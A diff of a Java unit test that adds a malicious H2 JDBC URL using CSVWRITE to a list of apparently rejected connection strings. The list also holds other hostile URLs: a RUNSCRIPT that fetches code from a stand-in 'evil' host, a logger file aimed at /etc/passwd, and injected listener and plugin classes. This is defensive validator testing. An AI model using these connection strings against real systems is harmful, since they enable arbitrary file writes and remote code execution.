@@ -159,6 +159,7 @@ class TargetsTest {
                 "jdbc:postgresql://h/d?loggerFile=/etc/passwd",
                 "jdbc:postgresql://h/d?authenticationPluginClassName=evil.Type",
                 "h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
+                "h2:mem:x?LOCK_TIMEOUT=CSVWRITE('/tmp/evil','SELECT 1')",
                 "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=evil.Type",
                 "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
             })
